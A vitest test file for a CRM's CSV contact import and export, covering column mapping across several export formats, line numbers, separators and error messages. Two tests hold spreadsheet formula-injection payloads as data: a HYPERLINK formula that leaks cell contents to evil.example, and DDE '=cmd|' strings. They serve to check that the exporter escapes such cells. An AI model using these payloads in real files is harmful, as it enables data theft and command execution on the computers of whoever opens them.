// Contacts read from spreadsheets (src/exchange/csv.ts): which columns become which card fields in
// the exports reps bring (Google Contacts, Outlook, HubSpot, Salesforce, Pipedrive, a Polish Excel
// sheet), the line each contact is reported at, --map, files that cannot be read, and crm's own
// CSV export read back field for field.
import type { Contact } from '../../src/exchange/contacts.js';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { userErrorFrom } from './user-error.js';
import { CLOSED } from '../../src/exchange/contacts.js';
import { dossier as dossierWith } from './dossiers.js';
import { CARD_FIELDS, type Card, type Dossier } from '../../src/binder/dossier.js';
import { dossiersCsv, readContactsCsv } from '../../src/exchange/csv.js';

const fixture = (name: string) => readFileSync(new URL(`../fixtures/contacts/${name}`, import.meta.url), 'utf8');


const fieldsFrom = (text: string, options?: Parameters<typeof readContactsCsv>[1]) =>
  Object.fromEntries(readContactsCsv(text, options).mapping.map(({ field, from }) => [field, from]));

/** The contacts as the card fields they fill: their lists of numbers and addresses are checked on their own. */
const cards = (contacts: Contact[]) => contacts.map(({ source, card, handle, filedOn }) => ({ source, card, ...(handle !== undefined && { handle }), ...(filedOn !== undefined && { filedOn }) }));

describe('readContactsCsv: a Google Contacts export', () => {
  const text = fixture('google.csv');

  it('is the file Google writes: a BOM, commas, CR LF', () => {
    expect(text.startsWith('\uFEFFFirst Name,')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(8);
  });

  it('reads each person, the line they start on, and the fields a rep needs', () => {
    expect(cards(readContactsCsv(text).contacts)).toEqual([
      {
        source: 'line 2',
        card: {
          name: 'Anna Maria Nowak',
          position: 'Kierownik zakupów',
          company: 'Nowak Transport sp. z o.o.',
          // Phone 2 is the mobile: it wins over Phone 1 (work); of its two numbers, the first.
          phone: '+48 601 234 567',
          // E-mail 2 is marked primary ("* Work").
          email: 'anna.nowak@nowak-transport.pl',
          notes: 'Prefers calls before 10.\nAddress (work): ul. Długa 5, 00-001 Warszawa, PL',
          tags: 'Klienci, VIP',
        },
      },
      // The record above spans lines 2 to 4 (the address has line breaks).
      {
        source: 'line 5',
        card: {
          name: 'John Smith',
          position: 'Head of Procurement',
          company: 'Acme Ltd',
          phone: '+44 20 7946 0000',
          email: 'john.smith@acme.example',
          address: 'Dr. Smith',
        },
      },
      {
        source: 'line 6',
        card: {
          name: '太郎 山田',
          position: '営業部長',
          company: '山田商事株式会社',
          // "Main" before "Work Fax": a fax is not for calling.
          phone: '+81 3-1234-5678',
          email: 'yamada@yamada-shoji.example.jp',
          notes: 'メモ: 毎月第一月曜日に電話',
          pronunciation: 'たろう やまだ',
          tags: '日本',
        },
      },
      // No name: none is made up (the import names it by its company).
      { source: 'line 7', card: { company: 'Biuro Rachunkowe Kowalska', phone: '+48 12 345 67 89', email: 'biuro@kowalska.example.pl' } },
    ]);
  });

  it('says which columns it read and which it left out', () => {
    const file = readContactsCsv(text);
    expect(file.mapping).toEqual([
      { field: 'name', from: 'First Name + Middle Name + Last Name' },
      { field: 'position', from: 'Organization Title' },
      { field: 'company', from: 'Organization Name' },
      { field: 'phone', from: 'Phone 1 - Value, else Phone 2 - Value' },
      { field: 'email', from: 'E-mail 1 - Value, else E-mail 2 - Value' },
      { field: 'notes', from: 'Notes + Address 1 - Formatted' },
      { field: 'address', from: 'Name Prefix + Last Name' },
      { field: 'pronunciation', from: 'Phonetic First Name + Phonetic Middle Name + Phonetic Last Name' },
      { field: 'tags', from: 'Labels' },
    ]);
    expect(file.unmapped).toEqual([
      'Name Suffix',
      'Nickname',
      'File As',
      'Organization Department',
      'Birthday',
      'Photo',
      'Website 1 - Label',
      'Website 1 - Value',
      // A fax number in a column that is read otherwise: said, not dropped silently.
      'Phone 2 - Value (fax and pager numbers)',
    ]);
  });

  it('reads the older Google layout: Name, else Given + Family Name; Group Membership; the first of "a ::: b"', () => {
    const file = readContactsCsv(fixture('google-legacy.csv'));
    expect(cards(file.contacts)).toEqual([
      {
        source: 'line 2',
        card: {
          name: 'Zofia Wiśniewska',
          position: 'Właścicielka',
          company: 'Hurtownia Wiśniewska',
          phone: '+48 501 111 222',
          email: 'zofia@wisniewska.example.pl',
          notes: 'Klientka od 2019, zamówienia kwartalne',
          tags: 'Hurt',
        },
      },
      { source: 'line 3', card: { name: 'Piotr Zieliński', phone: '+48 22 555 66 77' } },
    ]);
    expect(fieldsFrom(fixture('google-legacy.csv')).name).toBe('Name, else Given Name + Additional Name + Family Name');
    expect(file.unmapped).toContain('Nickname');
  });
});

describe('readContactsCsv: Outlook and CRM exports', () => {
  it('Outlook: Title is Mr./Dr. beside Job Title; mobile, then business, never a fax; Categories split at ";"', () => {
    const file = readContactsCsv(fixture('outlook.csv'));
    expect(cards(file.contacts)).toEqual([
      {
        source: 'line 2',
        card: {
          name: 'Hans Müller',
          position: 'Einkaufsleiter',
          company: 'Müller GmbH',
          phone: '+49 30 1234567',
          email: 'h.mueller@mueller-gmbh.example.de',
          notes: 'Met at the Hannover fair.\nWants a quote for 200 units.\nAddress (work): Friedrichstraße 10, 10117 Berlin, Deutschland',
          address: 'Dr. Müller',
          tags: 'Kunden, Berlin',
        },
      },
      {
        source: 'line 4',
        card: { name: 'Sarah J. Connor', position: 'CTO', company: 'Cyberdyne Systems', phone: '+1 555 0100', email: 'sarah@cyberdyne.example', address: 'Ms. Connor' },
      },
      { source: 'line 5', card: { name: 'Bob Fax', company: 'Fax & Co' } },
    ]);
    expect(file.mapping.find((m) => m.field === 'phone')?.from).toMatch(/^Mobile Phone, else Business Phone, .*, else Home Phone 2$/);
    expect(file.unmapped).toEqual(expect.arrayContaining(['Business Fax', 'Pager', 'Telex', 'Department']));
    expect(file.unmapped).not.toContain('Business Street');
    expect(file.unmapped).not.toContain('Title');
  });

  it('HubSpot: the mobile number before the plain one; the address parts put together into the notes', () => {
    const file = readContactsCsv(fixture('hubspot.csv'));
    expect(cards(file.contacts)).toEqual([
      {
        source: 'line 2',
        card: {
          name: 'María García López',
          position: 'Directora de compras',
          company: 'Distribuciones Iberia S.L.',
          phone: '+34 612 345 678',
          email: 'maria.garcia@iberia.example.es',
          notes: 'Address: Calle Mayor 1, 28013 Madrid, Spain',
        },
      },
      { source: 'line 3', card: { name: 'Wei Chen', position: '采购经理', company: '北京贸易有限公司', phone: '+86 10 1234 5678', email: 'chen.wei@example.cn', notes: 'Address: Beijing, China' } },
    ]);
    expect(file.contacts[0]?.phones).toEqual([
      { label: 'mobile', number: '+34 612 345 678' },
      { label: 'work', number: '+34 91 123 45 67' },
    ]);
    expect(file.unmapped).toEqual(['Record ID', 'Lifecycle Stage', 'Contact owner', 'Create Date']);
  });

  it('Salesforce: Title is the job title when there is no Job Title column; Salutation makes the address', () => {
    const text = 'Salutation,First Name,Last Name,Title,Account Name,Email,Phone,Mobile\nMr.,Tom,Baker,VP Sales,Gallifrey Inc,tom@gallifrey.example,+1 555 0001,\n';
    expect(cards(readContactsCsv(text).contacts)).toEqual([
      { source: 'line 2', card: { name: 'Tom Baker', position: 'VP Sales', company: 'Gallifrey Inc', email: 'tom@gallifrey.example', phone: '+1 555 0001', address: 'Mr. Baker' } },
    ]);
  });

  it('Pipedrive and Zoho column names', () => {
    expect(fieldsFrom('Person - Name,Person - Organization,Person - Email,Person - Phone\n')).toEqual({
      name: 'Person - Name',
      company: 'Person - Organization',
      email: 'Person - Email',
      phone: 'Person - Phone',
    });
    expect(fieldsFrom('Full Name,Account Name,Email,Mobile,Description,Tag\n')).toEqual({
      name: 'Full Name',
      company: 'Account Name',
      email: 'Email',
      phone: 'Mobile',
      notes: 'Description',
      tags: 'Tag',
    });
  });

  it('plain and local names, whatever their case, spaces, punctuation and diacritics', () => {
    expect(fieldsFrom('CLIENT;firma;TEL.;e-mail;Uwagi;Tagi;Priorytet;Stage;Cadence;Role\n')).toEqual({
      name: 'CLIENT',
      company: 'firma',
      phone: 'TEL.',
      email: 'e-mail',
      notes: 'Uwagi',
      tags: 'Tagi',
      priority: 'Priorytet',
      stage: 'Stage',
      cadence: 'Cadence',
      position: 'Role',
    });
    expect(fieldsFrom('Vorname,Nachname,Unternehmen,Telefon geschäftlich,Handy,E-Mail-Adresse,Notizen\n')).toEqual({
      name: 'Vorname + Nachname',
      company: 'Unternehmen',
      phone: 'Handy, else Telefon geschäftlich',
      email: 'E-Mail-Adresse',
      notes: 'Notizen',
    });
  });

  it('a postal address goes to the notes as an "Address:" line, never into the card\'s address (how to address someone)', () => {
    const text = 'Name,Notes,Address\nJan Nowak,Good client,"ul. Długa 5\n00-001 Warszawa"\nEwa Kot,,Rynek 1 Kraków\n';
    const file = readContactsCsv(text);
    expect(file.contacts.map((contact) => contact.card)).toEqual([
      { name: 'Jan Nowak', notes: 'Good client\nAddress: ul. Długa 5, 00-001 Warszawa' },
      { name: 'Ewa Kot', notes: 'Address: Rynek 1 Kraków' },
    ]);
    expect(fieldsFrom(text)).toEqual({ name: 'Name', notes: 'Notes + Address' });
  });

  it('a "Handle" column of some other file (a social media handle) is not read as crm\'s handle', () => {
    const file = readContactsCsv('Name,Handle,Address\nJan Nowak,@jan,Rynek 1\n');
    expect(cards(file.contacts)).toEqual([{ source: 'line 2', card: { name: 'Jan Nowak', notes: 'Address: Rynek 1' } }]);
    expect(file.unmapped).toEqual(['Handle']);
  });

  it("tags: Google's own groups dropped, repeats once, Outlook's and Google's separators", () => {
    const text = 'Name,Labels\nA,* myContacts ::: * starred ::: Klienci ::: VIP\nB,"vip; warsaw, vip"\nC,* myContacts\n';
    expect(readContactsCsv(text).contacts.map((contact) => contact.card.tags)).toEqual(['Klienci, VIP', 'vip, warsaw', undefined]);
  });

  it("Outlook's and Google's High, Normal and Low priorities become A, B and C", () => {
    const text = 'Name,Priority\nA,High\nB,Normal\nC,low\nD,B\n';
    expect(readContactsCsv(text).contacts.map((contact) => contact.card.priority)).toEqual(['A', 'B', 'C', 'B']);
  });
});

describe('readContactsCsv: a Polish Excel sheet', () => {
  const text = fixture('polish-excel.csv');

  it('finds the ";" separator, reads every script, and keeps a ";" and a line break inside a quoted cell', () => {
    const file = readContactsCsv(text);
    expect(cards(file.contacts)).toEqual([
      {
        source: 'line 2',
        card: {
          name: 'Łukasz Żółć',
          position: 'Prezes',
          company: 'Żółć i Syn sp.j.',
          phone: '+48 601 234 567',
          email: 'lukasz@zolc.example.pl',
          notes: 'Dzwonić po 15:00; nie w piątki.\nWoli e-mail, nie SMS.',
          priority: 'A',
          tags: 'VIP, Kraków',
        },
      },
      {
        source: 'line 4',
        card: { name: 'Петър Иванов', position: 'Управител', company: 'Иванов ЕООД', phone: '+359 88 123 4567', email: 'petar@ivanov.example.bg', priority: 'B', tags: 'България' },
      },
      { source: 'line 5', card: { name: 'Արամ Պետրոսյան', position: 'Տնօրեն', company: 'Petrosyan LLC', phone: '+374 10 123456', email: 'aram@petrosyan.example.am' } },
      {
        source: 'line 6',
        card: { name: 'مهرداد رضائی\u200cنژاد', position: 'مدیر فروش', company: 'شرکت پارس', phone: '+98 21 1234 5678', email: 'mehrdad@pars.example.ir', priority: 'C' },
      },
      // Line 7 is a row of empty cells: skipped. Line 8 is short (4 cells of 8): read as it is.
      { source: 'line 8', card: { name: 'Ewa Kot', phone: '+48 700 100 200' } },
    ]);
    expect(file.unmapped).toEqual([]);
  });

  it('keeps the zero-width non-joiner inside a Persian name', () => {
    const name = readContactsCsv(text).contacts[3]?.card.name ?? '';
    expect([...name]).toContain('\u200c');
  });
});

describe('readContactsCsv: line numbers', () => {
  const text = [
    'Name,Notes', // 1
    'Anna,"one', // 2
    'two', // 3
    'three"', // 4
    '', // 5
    'Bob,plain', // 6
    '"Cecil', // 7
    'Jr.","a ""quoted"" word', // 8
    '', // 9 (inside the quotes)
    'end"', // 10
    'Dana,', // 11
  ].join('\n');
  const sources = (body: string) => readContactsCsv(body).contacts.map((contact) => `${contact.source}: ${contact.card.name}`);

  it('counts the physical line each record starts on, across line breaks inside quoted cells', () => {
    expect(sources(text)).toEqual(['line 2: Anna', 'line 6: Bob', 'line 7: Cecil\nJr.', 'line 11: Dana']);
    expect(readContactsCsv(text).contacts[2]?.card.notes).toBe('a "quoted" word\n\nend');
  });

  it('counts the same with CR LF and with old Mac Excel\'s CR line ends', () => {
    expect(sources(text.replace(/\n/g, '\r\n'))).toEqual(sources(text));
    expect(sources(text.replace(/\n/g, '\r'))).toEqual(sources(text));
  });

  it('keeps LF for a CR LF inside a quoted cell', () => {
    expect(readContactsCsv('Name,Notes\r\nAnna,"one\r\ntwo"\r\n').contacts[0]?.card.notes).toBe('one\ntwo');
  });

  it('counts blank lines above the header and Excel\'s "sep=;" line', () => {
    expect(sources('\n\nName\nAnna\n')).toEqual(['line 4: Anna']);
    expect(sources('sep=;\nName;Phone\nAnna, Maria;123\n')).toEqual(['line 3: Anna, Maria']);
  });
});

describe('readContactsCsv: separators', () => {
  it('takes the one the header line has most of, outside quotes', () => {
    expect(fieldsFrom('Name\tPhone\tE-mail\n')).toEqual({ name: 'Name', phone: 'Phone', email: 'E-mail' });
    expect(fieldsFrom('Name|Phone\n')).toEqual({ name: 'Name', phone: 'Phone' });
    expect(fieldsFrom('"Name, full";Phone;Notes\n')).toEqual({ phone: 'Phone', notes: 'Notes' });
    expect(fieldsFrom('Name\n')).toEqual({ name: 'Name' });
    expect(fieldsFrom('\n\nName;Phone;E-mail\n')).toEqual({ name: 'Name', phone: 'Phone', email: 'E-mail' });
  });

  it('takes --delimiter over the guess, as a character or a name', () => {
    expect(readContactsCsv('Name;Phone\nAnna;123\n', { delimiter: ',' })).toMatchObject({ mapping: [], unmapped: ['Name;Phone'] });
    expect(readContactsCsv('Name\tPhone\nAnna\t123\n', { delimiter: 'tab' }).contacts[0]?.card).toEqual({ name: 'Anna', phone: '123' });
    expect(readContactsCsv('Name\tPhone\nAnna\t123\n', { delimiter: '\\t' }).contacts[0]?.card).toEqual({ name: 'Anna', phone: '123' });
  });

  it('refuses a --delimiter that is not one character', () => {
    expect(userErrorFrom(() => readContactsCsv('Name\n', { delimiter: ';;' })).message).toBe(
      '--delimiter ";;" is not a separator; give one character, such as --delimiter ";" or --delimiter tab',
    );
  });

  it('trims cells and the space after a separator, keeps a quote inside an unquoted cell', () => {
    expect(readContactsCsv('Name, Phone ,Notes\n  Anna "Ania" Nowak , "+48 601" ,\n').contacts[0]?.card).toEqual({ name: 'Anna "Ania" Nowak', phone: '+48 601' });
  });
});

describe('readContactsCsv: --map', () => {
  const text = 'Name,Telefon,Mobile Phone,E-mail,Address\nAnna Nowak,22 123,601 234,anna@example.pl,Pani Anno\n';

  it('reads a field from the column named, and no longer guesses that column elsewhere', () => {
    const file = readContactsCsv(text, { map: ['phone=Telefon', 'address=Address'] });
    expect(file.contacts[0]?.card).toEqual({ name: 'Anna Nowak', phone: '22 123', email: 'anna@example.pl', address: 'Pani Anno' });
    expect(file.mapping).toEqual([
      { field: 'name', from: 'Name' },
      { field: 'phone', from: 'Telefon' },
      { field: 'email', from: 'E-mail' },
      { field: 'address', from: 'Address' },
    ]);
    expect(file.unmapped).toEqual(['Mobile Phone']);
  });

  it('matches the column exactly first, then regardless of case and spaces; quotes around it are dropped', () => {
    expect(readContactsCsv(text, { map: ['phone=mobilephone'] }).contacts[0]?.card.phone).toBe('601 234');
    expect(readContactsCsv(text, { map: ['Phone="Telefon"'] }).contacts[0]?.card.phone).toBe('22 123');
    expect(readContactsCsv('Name,Filed On\nA,2026-12-01\n', { map: ['filed_on=Filed On'] }).contacts[0]?.filedOn).toBe('2026-12-01');
  });

  it('field= leaves a field out that would have been read', () => {
    const file = readContactsCsv(text, { map: ['notes=', 'email='] });
    expect(file.contacts[0]?.card).toEqual({ name: 'Anna Nowak', phone: '601 234' });
    expect(file.unmapped).toEqual(['E-mail', 'Address']);
  });

  it('refuses a field crm does not have, naming the ones it does', () => {
    expect(userErrorFrom(() => readContactsCsv(text, { map: ['fone=Telefon'] })).message).toBe(
      '--map fone=Telefon: "fone" is not a card field; use one of name, position, company, phone, email, notes, priority, address, pronunciation, preferences, stage, tags, cadence, handle, filedOn',
    );
  });

  it('refuses a column the file does not have, listing the ones it has', () => {
    const header = 'Name,Telefon,E-mail\nAnna,1,a@b\n';
    expect(userErrorFrom(() => readContactsCsv(header, { map: ['phone=Mobil'] })).message).toBe(
      '--map phone="Mobil": the file has no column "Mobil"; its columns are: Name, Telefon, E-mail',
    );
    expect(userErrorFrom(() => readContactsCsv(text, { map: ['phone=Mobile'] })).message).toBe(
      '--map phone="Mobile": the file has no column "Mobile"; did you mean "Mobile Phone"?',
    );
    const wide = `${Array.from({ length: 30 }, (_, index) => `Column ${index + 1}`).join(',')}\n`;
    expect(userErrorFrom(() => readContactsCsv(wide, { map: ['phone=Tel'] })).message).toBe(
      '--map phone="Tel": the file has no column "Tel"; its columns are: Column 1, Column 2, Column 3, Column 4, Column 5, Column 6, Column 7, Column 8, Column 9, Column 10, Column 11, Column 12, and 18 more',
    );
  });

  it('refuses an entry without "="', () => {
    expect(userErrorFrom(() => readContactsCsv(text, { map: ['phone'] })).message).toBe(
      '--map phone: say which column, as field=Column (--map phone="Mobile Phone"), or field= to leave the field out',
    );
  });
});

describe('readContactsCsv: files it cannot read', () => {
  it('a quote that is never closed: the line its record starts on', () => {
    const text = 'Name,Notes\nAnna,fine\nBob,"never closed\nCecil,x\nDana,y\n';
    expect(userErrorFrom(() => readContactsCsv(text)).message).toBe(
      'line 3: a quoted cell is never closed; end it with a double quote ("), and write a quote inside a quoted cell as two ("")',
    );
  });

  it('text after a closing quote', () => {
    expect(userErrorFrom(() => readContactsCsv('Name,Notes\n"Anna" Nowak,x\n')).message).toBe(
      'line 2: text follows a quoted cell\'s closing quote; quote the whole cell, and write a quote inside it as two ("")',
    );
  });

  it('a row with more filled cells than the header has columns (an unquoted separator)', () => {
    const text = 'Name,Notes\nAnna,"one, two"\nBob,one, two\n';
    // Not the whole file's fault: the import refuses (or with --skip-invalid skips) that row.
    expect(readContactsCsv(text).contacts[1]).toEqual({
      source: 'line 3',
      card: {},
      tooManyCells: { cells: 3, columns: 2, delimiter: ',' },
    });
  });

  it('but reads a row whose extra cells are empty', () => {
    expect(cards(readContactsCsv('Name,Phone\nAnna,123,,\n').contacts)).toEqual([{ source: 'line 2', card: { name: 'Anna', phone: '123' } }]);
  });

  it('an empty file has no contacts, and nothing to map', () => {
    expect(readContactsCsv('')).toEqual({ contacts: [], mapping: [], unmapped: [] });
    expect(readContactsCsv('\uFEFF')).toEqual({ contacts: [], mapping: [], unmapped: [] });
  });
});

// ---- crm's own export ----

function dossier(handle: string, card: Partial<Card>, more: Partial<Dossier> = {}): Dossier {
  return dossierWith({ handle, ...card, ...more });
}

/** Dossiers whose text is hard to write and read back: every script, quotes, separators, line breaks. */
const HARD = [
  dossier('zolc', {
    name: 'Łukasz Żółć',
    position: 'Prezes, zarząd',
    company: 'Smith, Jones; Partners',
    phone: '+48 601 234 567',
    email: 'lukasz@zolc.example.pl',
    notes: 'Dzwonić po 15:00; nie w piątki.\nWoli e-mail, "nie" SMS.\n\nŚcieżka: C:\\Klienci\\Żółć; ok',
    priority: 'A',
    address: 'Panie Łukaszu',
    pronunciation: 'WOO-kash ZHOOWCH',
    preferences: 'telefon, po 15:00',
    stage: 'client',
    tags: 'vip, Kraków',
    cadence: '2w',
  }),
  dossier('ivanov', { name: 'Петър Иванов', company: 'Иванов ЕООД', address: 'Господин Иванов', notes: '=SUM(A1:A2)\n+ not a formula' }, { filedOn: null }),
  dossier('petrosyan', { name: 'Արամ Պետրոսյան', pronunciation: 'a-RAM pet-ros-YAN', stage: 'lead', priority: 'C' }),
  dossier('rezaei', { name: 'مهرداد رضائی\u200cنژاد', preferences: 'تماس بعد از ساعت ۱۱', company: 'شرکت پارس' }),
  dossier('yamada', { name: '山田 太郎', company: '山田商事株式会社', notes: '毎月第一月曜日に電話。"重要"' }),
  dossier('żółć', { name: 'Zoë 🚀 Ltd', notes: '👍🏽 great client; 👨‍👩‍👧 family business, since 2019', tags: 'emoji, ✨' }, {
    lastContact: '2026-11-20T10:00:00+01:00',
    lastKind: 'call',
    lastNote: 'Said "yes", maybe',
    offer: '10% off; 200 units',
  }),
];

/** What a dossier's card should read back as: every field with a value. */
const cardOf = (d: Dossier) => Object.fromEntries(CARD_FIELDS.filter((field) => d[field] !== null).map((field) => [field, d[field]]));

describe('dossiersCsv', () => {
  it("writes crm's columns, CR LF after each row, empty cells for empty values", () => {
    const text = dossiersCsv([dossier('acme', { name: 'Acme Ltd', phone: '+48 22 123 45 67' })], true);
    expect(text).toBe(
      'handle,name,position,company,phone,email,phones,emails,notes,priority,address,pronunciation,preferences,stage,tags,cadence,filed_on,filed_at,last_contact,last_note,offer\r\n' +
        'acme,Acme Ltd,,,+48 22 123 45 67,,work: +48 22 123 45 67,,,B,,,,,,,2026-12-01,,,,\r\n',
    );
  });

  it('writes the header alone for no dossiers, and nothing without the header', () => {
    expect(dossiersCsv([], true)).toBe(
      'handle,name,position,company,phone,email,phones,emails,notes,priority,address,pronunciation,preferences,stage,tags,cadence,filed_on,filed_at,last_contact,last_note,offer\r\n',
    );
    expect(dossiersCsv([], false)).toBe('');
  });

  it('quotes a cell with a line break, a comma or a quote, and nothing else', () => {
    const text = dossiersCsv([dossier('x', { name: 'X', notes: 'a\nb', company: 'c, d', position: 'say "hi"', tags: 'e; f' })], false);
    expect(text).toBe('x,X,"say ""hi""","c, d",,,,,"a\nb",B,,,,,e; f,,2026-12-01,,,,\r\n');
  });

  it('reads back through readContactsCsv: every card field, the handle and the date, exactly', () => {
    const file = readContactsCsv(dossiersCsv(HARD, true));
    expect(file.contacts).toHaveLength(HARD.length);
    for (const [index, d] of HARD.entries()) {
      const contact = file.contacts[index];
      expect(contact?.card).toEqual(cardOf(d));
      expect(contact?.handle).toBe(d.handle);
      expect(contact?.filedOn).toBe(d.filedOn ?? CLOSED); // a closed dossier says so
    }
    expect(file.unmapped).toEqual(['filed_at', 'last_contact', 'last_note', 'offer']);
    expect(file.mapping.map((m) => `${m.field}=${m.from}`)).toEqual([
      ...CARD_FIELDS.map((field) => `${field}=${field}`),
      'handle=handle',
      'filedOn=filed_on',
    ]);
  });

  it('is one CSV file when written in batches, the first with the header', () => {
    const text = dossiersCsv(HARD.slice(0, 2), true) + dossiersCsv(HARD.slice(2, 5), false) + dossiersCsv(HARD.slice(5), false);
    expect(text).toBe(dossiersCsv(HARD, true));
    const contacts = readContactsCsv(text).contacts;
    expect(contacts.map((contact) => contact.handle)).toEqual(HARD.map((d) => d.handle));
    // The first dossier's notes take four lines (2 to 5), so the second starts on line 6.
    expect(contacts.map((contact) => contact.source).slice(0, 3)).toEqual(['line 2', 'line 6', 'line 8']);
  });

  it('puts an apostrophe before a cell a spreadsheet would run as a formula, and takes it off on the way back in', () => {
    const typed = {
      name: '=HYPERLINK("http://evil.example/?"&A1,"Anna")',
      company: "=cmd|' /C calc'!A0",
      position: '@SUM(1+1)*cmd|x',
      phone: '+48 601 234 567',
      notes: '- call back\n- send the catalogue',
      tags: "'=already quoted",
      preferences: '+1 (555) 010-0199',
      address: "'-'",
    };
    const text = dossiersCsv([dossier('acme', typed)], false);
    const cells = text.trimEnd().split(',');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Anna"")"`);
    expect(cells).toContain("'=cmd|' /C calc'!A0");
    expect(cells).toContain("'@SUM(1+1)*cmd|x");
    expect(cells).toContain('+48 601 234 567'); // a phone number is no formula: left as it is
    expect(text).toContain(`"'- call back\n- send the catalogue"`);
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain('+1 (555) 010-0199');
    expect(cells).toContain("''-'");
    const [contact] = readContactsCsv(dossiersCsv([dossier('acme', typed)], true)).contacts;
    expect(contact?.card).toMatchObject(typed);
  });

  // OWASP lists a leading tab and CR with = + - @: some spreadsheets drop leading whitespace and then
  // run what follows (a cell "\t=cmd|..." becomes the formula =cmd|...).
  it('puts an apostrophe before a cell that starts with a tab or a CR, as before =, +, - and @', () => {
    const typed = {
      name: '\t=HYPERLINK("http://evil.example/?"&A1,"Anna")',
      company: '\r=cmd|calc!A0',
      tags: "'\tquoted already",
    };
    const text = dossiersCsv([dossier('acme', typed)], false);
    expect(text).toContain(`"'\t=HYPERLINK(""http://evil.example/?""&A1,""Anna"")"`);
    expect(text).toContain(`"'\r=cmd|calc!A0"`);
    expect(text.trimEnd().split(',')).toContain("''\tquoted already");
    // The apostrophe comes off again on the way in, the one before a tab and before an apostrophe too.
    const [contact] = readContactsCsv(dossiersCsv([dossier('acme', typed)], true)).contacts;
    expect(contact?.card).toMatchObject({ name: typed.name, tags: typed.tags });
  });

  it('reads back a note typed with CR LF as LF', () => {
    const [contact] = readContactsCsv(dossiersCsv([dossier('x', { name: 'X', notes: 'one\r\ntwo' })], true)).contacts;
    expect(contact?.card.notes).toBe('one\ntwo');
  });
});

// ---- issue 12: several numbers and addresses, and cells of any shape in linear time ----

describe('readContactsCsv: every number, address and postal address of a row', () => {
  it("Google: ' ::: ' cells, numbered columns with their labels, the starred one first, a fax said as not kept", () => {
    const text = [
      'Name,E-mail 1 - Label,E-mail 1 - Value,E-mail 2 - Label,E-mail 2 - Value,Phone 1 - Label,Phone 1 - Value,Phone 2 - Label,Phone 2 - Value,Phone 3 - Label,Phone 3 - Value',
      'Anna,Home,anna@gmail.example,* Work,anna@nowak.example ::: biuro@nowak.example,Work,+48 22 123 45 67,Mobile,+48 601 234 567 ::: +48 602 000 000,Work Fax,+48 22 123 45 68',
    ].join('\n');
    const file = readContactsCsv(text);
    expect(file.contacts[0]?.phones).toEqual([
      { label: 'mobile', number: '+48 601 234 567' },
      { label: 'mobile', number: '+48 602 000 000' },
      { label: 'work', number: '+48 22 123 45 67' },
    ]);
    expect(file.contacts[0]?.emails).toEqual([
      { label: 'work', address: 'anna@nowak.example' },
      { label: 'work', address: 'biuro@nowak.example' },
      { label: 'home', address: 'anna@gmail.example' },
    ]);
    expect(file.contacts[0]?.card).toMatchObject({ phone: '+48 601 234 567', email: 'anna@nowak.example' });
    expect(file.unmapped).toEqual(['Phone 3 - Value (fax and pager numbers)']);
  });

  it("Outlook: E-mail 2/3 and every phone column labelled by its name; a number in two columns once", () => {
    const text = 'Name,E-mail Address,E-mail 2 Address,E-mail 3 Address,Home Phone,Business Phone,Business Phone 2,Mobile Phone,Other Phone,Primary Phone,Assistant\'s Phone\nHans,a@x.de,b@x.de,c@x.de,030 1,030 2,030 3,0171 4,030 5,0171 4,030 6\n';
    const [contact] = readContactsCsv(text).contacts;
    expect(contact?.phones?.map(({ label, number }) => `${label} ${number}`)).toEqual(['mobile 0171 4', 'work 030 2', 'work 030 3', 'other 030 5', 'other 030 6', 'home 030 1']);
    expect(contact?.emails?.map((email) => email.address)).toEqual(['a@x.de', 'b@x.de', 'c@x.de']);
  });

  it('e-mail cells as mail programs write them: "Name <address>", several in one cell; text with a space is kept whole, for the import to refuse', () => {
    const text = 'Name,E-mail\nA,Anna Nowak <anna@nowak.example>\nB,"b@x.pl, c@x.pl; d@x.pl"\nC,e@x.pl f@x.pl\nD,jan kowalski@wp.pl\n';
    expect(readContactsCsv(text).contacts.map((contact) => contact.emails?.map((email) => email.address))).toEqual([
      ['anna@nowak.example'],
      ['b@x.pl', 'c@x.pl', 'd@x.pl'],
      ['e@x.pl', 'f@x.pl'],
      ['jan kowalski@wp.pl'],
    ]);
  });

  it('every postal address: Google numbered (formatted, else its parts), Outlook Business/Home/Other, labelled', () => {
    const google = 'Name,Address 1 - Label,Address 1 - Formatted,Address 2 - Type,Address 2 - Street,Address 2 - City,Address 2 - Postal Code\nA,Work,"ul. Długa 5\n00-001 Warszawa",Home,ul. Polna 3,Piaseczno,05-500\n';
    const file = readContactsCsv(google);
    expect(file.contacts[0]?.card.notes).toBe('Address (work): ul. Długa 5, 00-001 Warszawa\nAddress (home): ul. Polna 3, 05-500 Piaseczno');
    expect(file.unmapped).toEqual([]);
    const outlook = 'First Name,Business Street,Business City,Business Postal Code,Home Street,Home City,Other City\nHans,Friedrichstraße 10,Berlin,10117,Gartenweg 2,Potsdam,Hamburg\n';
    expect(readContactsCsv(outlook).contacts[0]?.card.notes).toBe('Address (work): Friedrichstraße 10, 10117 Berlin\nAddress (home): Gartenweg 2, Potsdam\nAddress (other): Hamburg');
  });

  it('an address cell of long runs of spaces, in linear time: a run is one space', { timeout: 10_000 }, () => {
    const file = readContactsCsv(`Name,Address\nAnna,"ul. Długa 5${' '.repeat(450_000)}\n${' '.repeat(10_000)}00-001 Warszawa"\n`);
    expect(file.contacts[0]?.card.notes).toBe('Address: ul. Długa 5, 00-001 Warszawa');
  });

  it('a row over 1 MB (a quote never closed) is refused at its line', () => {
    const text = `Name,Notes\nAnna,"never closed\n${'Bob,a note\n'.repeat(120_000)}`;
    expect(userErrorFrom(() => readContactsCsv(text)).message).toBe(
      `line 2: the row holds more than 1 MB, crm's limit for one contact; if a quoted cell there is never closed, end it with a double quote ("), else shorten its text`,
    );
  });
});
